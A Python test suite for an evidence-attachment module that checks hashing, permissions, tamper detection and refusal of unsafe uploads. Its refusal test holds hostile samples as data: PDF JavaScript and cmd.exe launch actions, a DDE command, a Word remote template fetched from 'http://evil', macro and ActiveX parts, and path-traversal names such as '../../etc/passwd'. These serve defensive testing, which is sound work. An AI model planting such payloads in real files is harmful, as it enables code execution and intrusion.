"""Evidence: what may be attached, that it stays as it came, and that it is found when it does not."""

from __future__ import annotations

import hashlib
import io
import stat
import threading
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import openpyxl
import pypdf
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics.access.viewer import Right, everybody
from analytics.database.backups import damaged_evidence, evidence_of
from analytics.database.engine import database_of
from analytics.errors import NotAllowed, Refusal
from analytics.reviews import acting
from analytics.reviews.acting import Actions
from analytics.reviews.attachments import MIMES, mime_of
from analytics.reviews.evidence import EvidenceDamaged, keep, named, read
from analytics.reviews.settings import settings
from analytics.warehouse.snapshots.sealing import Disk
from tests.architecture.sources import ROOT
from tests.looking import look_at
from tests.reviews import attached
from tests.reviews.acting_city import CHENGGUAN, CLERK, set_one

SOUND = {
    "会议纪要.pdf": attached.pdf(),
    "现场.png": attached.png(),
    "现场.JPG": attached.jpeg(),
    "现场.jpeg": attached.jpeg(),
    "方案.docx": attached.word(),
    "台账.xlsx": attached.excel(),
}


def damage(snapshots: Path) -> dict[str, bool]:
    """The files that are not as they were kept, by hash: whether they are there."""
    return damaged_evidence(database_of(snapshots), snapshots)


@pytest.mark.parametrize("name", SOUND)
def test_what_is_kept_comes_back_as_it_was(snapshots: Path, name: str) -> None:
    kept = keep(snapshots, SOUND[name], name, CLERK)
    assert kept.sha256 == hashlib.sha256(SOUND[name]).hexdigest()
    assert (kept.name, kept.size) == (name, len(SOUND[name]))
    assert read(snapshots, kept.sha256) == SOUND[name]
    assert damage(snapshots) == {}


def test_the_name_of_a_file_that_was_there_is_on_the_disk_too(
    snapshots: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep(snapshots, attached.pdf(), "会议纪要.pdf", CLERK)
    synced: list[Path] = []
    monkeypatch.setattr(Disk, "sync_folder", lambda _disk, path: synced.append(path))
    # Whoever kept it before may have been killed before its name, or that of its folder, was synced.
    kept = keep(snapshots, attached.pdf(), "会议纪要.pdf", CLERK)
    folder = evidence_of(snapshots)
    assert synced == [folder, folder / kept.sha256[:2]]


def test_files_of_usual_programs_are_taken() -> None:
    book, page = io.BytesIO(), io.BytesIO()
    openpyxl.Workbook().save(book)
    made = pypdf.PdfWriter()
    made.add_blank_page(100, 100)
    made.write(page)
    picture = (ROOT / "docs" / "screenshots" / "overview.png").read_bytes()
    assert mime_of(book.getvalue(), "a.xlsx") == MIMES[".xlsx"]
    assert mime_of(page.getvalue(), "a.pdf") == MIMES[".pdf"]
    assert mime_of(picture, "a.png") == MIMES[".png"]


def test_a_pdf_a_usual_program_gave_a_password_is_refused() -> None:
    locked, file = pypdf.PdfWriter(), io.BytesIO()
    locked.add_blank_page(100, 100)
    locked.encrypt("x")
    locked.write(file)
    with pytest.raises(Refusal, match="password"):
        mime_of(file.getvalue(), "a.pdf")


@pytest.mark.parametrize(
    ("name", "content", "refused"),
    [
        ("a.html", b"<html>", "Files of this kind"),
        ("a.svg", b"<svg/>", "Files of this kind"),
        ("a.docm", attached.word(), "Files of this kind"),
        ("pdf", attached.pdf(), "Files of this kind"),
        ("a.pdf", b"", "empty"),
        ("a.pdf", b"<html><script>", "content is HTML"),
        ("a.pdf", attached.png(), "content is PNG"),
        ("a.png", attached.jpeg(), "content is JPEG"),
        ("a.jpg", attached.pdf(), "content is PDF"),
        ("a.docx", attached.excel(), "content is .xlsx"),
        ("a.xlsx", attached.word(), "content is Word"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "password"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "password"),
        ("a.pdf", attached.pdf()[:-8], "damaged"),
        ("a.png", attached.png()[:-1], "damaged"),
        ("a.png", attached.png() + b"<script>", "damaged"),
        ("a.png", attached.png().replace(b"IDAT", b"IDAX"), "damaged"),
        ("a.jpg", attached.jpeg()[:-2], "damaged"),
        ("a.docx", attached.word()[:-30], "damaged"),
        ("a.pdf", attached.pdf(trailer=b"/Encrypt 5 0 R"), "password"),
        ("a.pdf", attached.pdf(more=b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"), "scripts"),
        ("a.pdf", attached.pdf(more=b"3 0 obj<</S/J#61vaScript>>endobj\n"), "scripts"),
        ("a.pdf", attached.pdf(more=b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "scripts"),
        ("a.pdf", attached.pdf(more=attached.object_stream(b"<</S/JavaScript/JS(x)>>")), "scripts"),
        ("a.pdf", attached.pdf(more=attached.object_stream(b"x").replace(b"x\x9c", b"zz")), "damaged"),
        ("a.docx", attached.word({"word/vbaProject.bin": b"x"}), "macros"),
        ("a.docx", attached.word({"[Content_Types].xml": b"application/x.macroEnabled.main"}), "macros"),
        ("a.docx", attached.word({"word/embeddings/oleObject1.bin": b"x"}), "embedded programs"),
        ("a.docx", attached.word({"word/activeX/activeX1.xml": b"<x/>"}), "embedded programs"),
        (
            "a.docx",
            attached.word(
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Id="1" Type="http://x/attachedTemplate" '
                    b'Target="http://evil/t.dotm" TargetMode="External"/>'
                }
            ),
            "macros",
        ),
        (
            "a.docx",
            attached.word(
                {"word/footer1.xml": b"<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"}
            ),
            "macros",
        ),
        ("a.xlsx", attached.excel({"xl/externalLinks/externalLink1.xml": b"<x:ddeLink/>"}), "macros"),
        ("a.xlsx", attached.excel({"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
        ("a.xlsx", attached.excel({"../x.xml": b"<x/>"}), "damaged"),
        ("a.docx", attached.word({"word/x.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}), "damaged"),
        ("a.docx", attached.word({"word/media/x.png": bytes(30_000_000)}), "damaged"),
        ("11010519491231002X.pdf", attached.pdf(), "ID number"),
    ],
)
def test_what_may_not_be_attached_is_refused_and_not_kept(
    snapshots: Path, name: str, content: bytes, refused: str
) -> None:
    with pytest.raises(Refusal, match=refused):
        keep(snapshots, content, name, CLERK)
    assert not evidence_of(snapshots).exists()


@given(st.sampled_from(sorted(SOUND)), st.data())
def test_whatever_the_bytes_are_the_answer_is_a_type_or_a_sentence(name: str, data: st.DataObject) -> None:
    sound = SOUND[name]
    content = bytearray(sound)
    for _ in range(data.draw(st.integers(0, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(content)))
    for one in (bytes(content), bytes(content[:cut])):
        with suppress(Refusal):
            assert mime_of(one, name) in MIMES.values()


def test_one_that_is_too_large_is_refused_with_both_sizes(snapshots: Path) -> None:
    most = settings().evidence_megabytes
    with pytest.raises(Refusal, match=rf"has {most + 1}\.0 MB; at most {most} MB"):
        keep(snapshots, bytes((most + 1) * 2**20), "a.pdf", CLERK)


def test_only_who_writes_attaches(snapshots: Path) -> None:
    with pytest.raises(NotAllowed):
        keep(snapshots, attached.pdf(), "a.pdf", replace(everybody(), rights=frozenset({Right.READ})))


def test_a_name_brings_no_folder_and_no_turned_direction(snapshots: Path) -> None:
    kept = keep(snapshots, attached.pdf(), "C:\\x\\../../纪\u202e要.pdf", CLERK)
    assert kept.name == "纪要.pdf"
    files = [path for path in evidence_of(snapshots).rglob("*") if path.is_file()]
    assert [path.name for path in files] == [kept.sha256]


def test_files_are_closed_to_others_and_the_same_file_is_kept_once(snapshots: Path) -> None:
    first = keep(snapshots, attached.pdf(), "a.pdf", CLERK)
    place = evidence_of(snapshots) / first.sha256[:2] / first.sha256
    before = place.stat()
    assert keep(snapshots, attached.pdf(), "b.pdf", CLERK).sha256 == first.sha256
    assert (place.stat().st_ino, stat.S_IMODE(before.st_mode)) == (before.st_ino, 0o640)
    assert stat.S_IMODE(place.parent.stat().st_mode) == 0o750


def test_many_at_once_keep_one_whole_file(snapshots: Path) -> None:
    content = attached.pdf(more=b"%" + bytes(2_000_000))
    found: list[str] = []
    crowd = [
        threading.Thread(target=lambda: found.append(keep(snapshots, content, "a.pdf", CLERK).sha256))
        for _ in range(8)
    ]
    for one in crowd:
        one.start()
    for one in crowd:
        one.join()
    assert len(found) == 8
    assert read(snapshots, found[0]) == content
    assert list((evidence_of(snapshots) / "staging").iterdir()) == []


def test_a_file_that_was_changed_is_never_handed_over_and_is_named(snapshots: Path) -> None:
    kept = keep(snapshots, attached.pdf(), "a.pdf", CLERK)
    place = evidence_of(snapshots) / kept.sha256[:2] / kept.sha256
    place.write_bytes(attached.pdf(more=b"% changed\n"))
    with pytest.raises(EvidenceDamaged, match="not as it was attached"):
        read(snapshots, kept.sha256)
    assert damage(snapshots) == {kept.sha256: True}
    keep(snapshots, attached.pdf(), "a.pdf", CLERK)
    assert (read(snapshots, kept.sha256), damage(snapshots)) == (attached.pdf(), {})


def test_a_file_an_action_names_that_is_gone_is_found(snapshots: Path) -> None:
    kept = keep(snapshots, attached.pdf(), "a.pdf", CLERK)
    one = set_one(snapshots)
    Actions.of(snapshots, CLERK).write(
        one.id,
        lambda now: acting.show(
            now, CLERK, sha256=kept.sha256, name=kept.name, mime=kept.mime, size=kept.size
        ),
    )
    assert damage(snapshots) == {}
    (evidence_of(snapshots) / kept.sha256[:2] / kept.sha256).unlink()
    assert damage(snapshots) == {kept.sha256: False}
    with pytest.raises(EvidenceDamaged, match="missing on the server"):
        read(snapshots, kept.sha256)


@pytest.mark.parametrize("sha256", ["", "../../etc/passwd", "A" * 64, "0" * 63])
def test_what_is_no_hash_leads_nowhere(snapshots: Path, sha256: str) -> None:
    with pytest.raises(EvidenceDamaged):
        read(snapshots, sha256)


def test_documents_the_data_names_are_found_by_the_rows_that_count(sample: Path) -> None:
    own = named(look_at(sample, unit=CHENGGUAN), "associations.district")
    assert [(one.district_code, one.source_table) for one in own] == [(CHENGGUAN, "institutions")]
    assert own[0].name.startswith("示例")
    city = named(look_at(sample), "leadership.assessed")
    assert {one.source_table for one in city} == {"measures"}
    assert len(city) > 1
    assert named(look_at(sample, only=[CHENGGUAN]), "leadership.assessed") == tuple(
        one for one in city if one.district_code == CHENGGUAN
    )
    assert named(look_at(sample), "workforce.total") == ()
